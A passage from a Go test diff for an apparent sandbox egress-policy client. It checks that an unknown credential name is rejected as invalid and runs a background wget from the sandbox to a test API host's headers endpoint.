+		_, err := egressClient(t, keyA).Create(ctxFor(t, time.Minute), dsec.CreateOptions{Image: "busybox", Policy: &dsec.Policy{Credentials: []dsec.Credential{{Name: "no-such-credential"}}}})
+		if kindOf(err) != "invalid" {
+			t.Fatalf("an unknown credential name: %v", err)
+		}
+	})
+	inBackground(t, sb, "wget -q -T 1 -O /dev/null http://"+apiHost+"/headers")
+	nb.check(t)
+}
+
+var (
+	_ = context.Background
+	_ = dsecv1.Network{}
+)
